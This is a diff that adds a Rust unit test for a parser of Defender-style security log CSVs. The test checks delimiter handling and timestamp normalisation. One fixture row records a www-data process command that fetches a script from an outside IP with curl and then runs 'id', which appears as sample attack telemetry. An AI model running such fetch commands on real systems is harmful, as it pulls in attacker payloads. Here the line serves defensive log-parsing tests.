@@ -534,6 +534,27 @@ fn times_without_a_zone_are_read_as_utc_and_kept_as_given() {
 }
 
 #[test]
+fn spreadsheet_saved_csv_with_semicolons_or_tabs() {
+    let semi = "\u{feff}Timestamp;DeviceName;ActionType;AccountName;ProcessCommandLine;ProcessId;FileName\r\n\
+                07.11.2025 07:02:14,001;wazuh1;ProcessCreated;www-data;\"curl -fsSL http://203.0.113.77:8080/x.sh; id\";416671;curl\r\n";
+    let p = clean(semi.as_bytes());
+    assert_eq!(p.format, Format::DefenderCsv);
+    let e = &p.events[0];
+    assert_eq!(e.time, "2025-11-07T07:02:14.001Z");
+    assert_eq!(e.fields["Timestamp"], "07.11.2025 07:02:14,001");
+    assert_eq!(e.source.table.as_deref(), Some("DeviceProcessEvents"));
+    let proc = e.process.as_ref().unwrap();
+    assert_eq!(
+        proc.command_line.as_deref(),
+        Some("curl -fsSL http://203.0.113.77:8080/x.sh; id")
+    );
+    assert_eq!(proc.pid, Some(416_671));
+    let tabs = "Timestamp\tDeviceName\tActionType\n2025-11-07T07:02:14Z\twazuh1\tLogonFailed\n";
+    let p = clean(tabs.as_bytes());
+    assert_eq!(p.events[0].outcome.as_deref(), Some("failure"));
+}
+
+#[test]
 fn projections_are_told_by_action_type_or_by_a_table_column() {
     let text = "Timestamp,DeviceName,ActionType,FileName,FolderPath\n\
                 2025-11-07T06:40:09Z,h1,FileCreated,x.sh,/tmp\n\
